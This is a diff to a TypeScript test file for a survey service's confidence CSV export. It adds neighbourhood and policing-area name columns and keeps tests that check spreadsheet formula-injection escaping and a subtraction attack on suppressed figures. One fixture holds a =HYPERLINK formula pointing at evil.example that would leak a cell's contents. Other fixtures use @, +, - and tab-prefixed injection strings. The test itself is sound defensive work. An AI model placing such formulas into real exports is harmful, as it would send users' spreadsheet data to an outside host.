@@ -1,5 +1,11 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { DEMO_FORCE, createLogger, stableId, type Actor } from '@engage/shared';
+import {
+  DEMO_FORCE,
+  DEMO_NEIGHBOURHOODS,
+  createLogger,
+  stableId,
+  type Actor,
+} from '@engage/shared';
 import { signAccessToken } from '@engage/shared/auth';
 import { startService, type RunningHttpServer, type RunningService } from '@engage/shared/graphql';
 import { createTestDatabase, testSecret, type TestDatabase } from '@engage/shared/testing';
@@ -14,6 +20,7 @@ import {
   structure,
 } from '../../services/surveys/test/support/attack/published-view.ts';
 import { subtractionAttack } from '../../services/surveys/test/support/attack/subtraction-attack.ts';
+import { receiveDemoTeams } from '../../services/surveys/test/support/survey-test-stack.ts';
 import {
   TEMPTING_ROUNDS,
   seedTemptingRounds,
@@ -38,6 +45,7 @@ beforeAll(async () => {
     logger,
   });
   await seedTemptingRounds(surveys.orm.em.fork());
+  await receiveDemoTeams(surveys);
   gateway = await startGateway({
     supergraphSdl: await composeSupergraph(),
     subgraphUrls: { surveys: `${surveys.url}/graphql` },
@@ -120,6 +128,10 @@ describe('the confidence CSV export', () => {
           r['group'] === cell.group,
       )!;
       expect(row['round']).toBe('May 2024');
+      // Named beside the id, from the teams the surveys service knows.
+      expect(row['policing_area_name']).toBe(
+        DEMO_FORCE.find((area) => area.id === cell.policingAreaId)!.name,
+      );
       if (cell.confidence.suppressed) {
         expect([row['value'], row['lower'], row['upper'], row['respondents']]).toEqual(
           Array(4).fill('suppressed'),
@@ -158,6 +170,10 @@ describe('the confidence CSV export', () => {
                 : level === 'POLICING_AREA'
                   ? row['policing_area_id']!
                   : row['neighbourhood_id']!;
+            if (level === 'NEIGHBOURHOOD') {
+              const team = DEMO_NEIGHBOURHOODS.find((n) => n.id === row['neighbourhood_id']);
+              expect(row['neighbourhood_name']).toBe(team!.name);
+            }
             const hidden = row['value'] === 'suppressed';
             learn(
               view,
@@ -184,7 +200,9 @@ describe('the confidence CSV export', () => {
       round: { id: 'r-1', label: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
       level: 'FORCE',
       policingAreaId: null,
+      policingAreaName: null,
       neighbourhoodId: null,
+      neighbourhoodName: null,
       groupBy: 'NONE',
       group: '@SUM(1+1)',
       confidence: figure,
@@ -195,7 +213,7 @@ describe('the confidence CSV export', () => {
     const [header, first] = confidenceCsv([cell]).split('\n');
     expect(header).toContain(',sample');
     expect(first).toBe(
-      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",r-1,FORCE,,,NONE,'@SUM(1+1),` +
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",r-1,FORCE,,,,,NONE,'@SUM(1+1),` +
         'CONFIDENCE,52.50,40.00,61.25,40,-3.25,true,VERIFIED',
     );
     for (const label of ['+1+1', '-1+1', '\t=1', '\r=1']) {
